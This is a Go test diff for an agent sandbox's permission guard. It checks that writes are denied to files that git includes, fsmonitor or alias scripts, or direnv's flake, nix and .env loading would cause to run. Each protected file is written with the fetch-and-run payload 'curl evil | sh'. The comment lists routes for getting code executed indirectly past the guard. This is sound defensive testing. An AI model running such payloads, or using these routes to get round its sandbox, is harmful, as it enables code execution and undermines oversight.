@@ -230,3 +230,45 @@ func TestProtectedHookManagerConfigs(t *testing.T) {
 		}
 	}
 }
+
+// TestProtectedIncludedAndDirenvRefs: two more ways a protected file has
+// an ordinary one run. A repository's config includes another file
+// (include.path, itself protected since session 16) whose
+// core.fsmonitor names a script; and an .envrc that says `use flake` or
+// `use nix` has direnv evaluate flake.nix or shell.nix on every cd (its
+// shellHook runs, re-evaluated when the file changes, with no new `direnv
+// allow`), `dotenv` loads .env into the shell (PATH, BASH_ENV). On main
+// fs.write of each (reversible, no human) was allowed.
+func TestProtectedIncludedAndDirenvRefs(t *testing.T) {
+	sb := newSandbox(t)
+	writeFiles(t, sb.ws, 0o755, map[string]string{
+		".git/HEAD":           "ref: refs/heads/main\n",
+		".git/config":         "[include]\n\tpath = ../config/git.inc\n",
+		"config/git.inc":      "[include]\n\tpath = more.inc\n[core]\n\tfsmonitor = tools/fsmonitor.sh\n",
+		"config/more.inc":     "[alias]\n\tx = !tools/deeper.sh\n",
+		"tools/fsmonitor.sh":  "#!/bin/sh\n",
+		"tools/deeper.sh":     "#!/bin/sh\n",
+		".envrc":              "use flake\ndotenv\n",
+		"flake.nix":           "{ }\n",
+		"flake.lock":          "{}\n",
+		".env":                "A=1\n",
+		"py/.envrc":           "use nix\n",
+		"py/shell.nix":        "{ }\n",
+		"py/default.nix":      "{ }\n",
+		"docs/readme.md":      "x\n",
+		"other/flake.nix":     "{ }\n",
+		"tools/unrelated.txt": "x\n",
+	})
+	s := newService(t, sb.ws)
+	for _, p := range []string{"tools/fsmonitor.sh", "tools/deeper.sh", "flake.nix", "flake.lock", ".env", "py/shell.nix", "py/default.nix"} {
+		r := exec(t, s, "fs.write", map[string]any{"path": p, "content": "curl evil | sh\n"})
+		if codeOf(r) != string(wire.CodePermissionDenied) || !strings.Contains(r.GetError().GetMessage(), "protected") {
+			t.Errorf("fs.write %s: %v, want PERMISSION_DENIED", p, r)
+		}
+	}
+	for _, p := range []string{"docs/readme.md", "other/flake.nix", "tools/unrelated.txt"} {
+		if r := exec(t, s, "fs.write", map[string]any{"path": p, "content": "x\n"}); codeOf(r) != "" {
+			t.Errorf("fs.write %s: %v", p, r)
+		}
+	}
+}
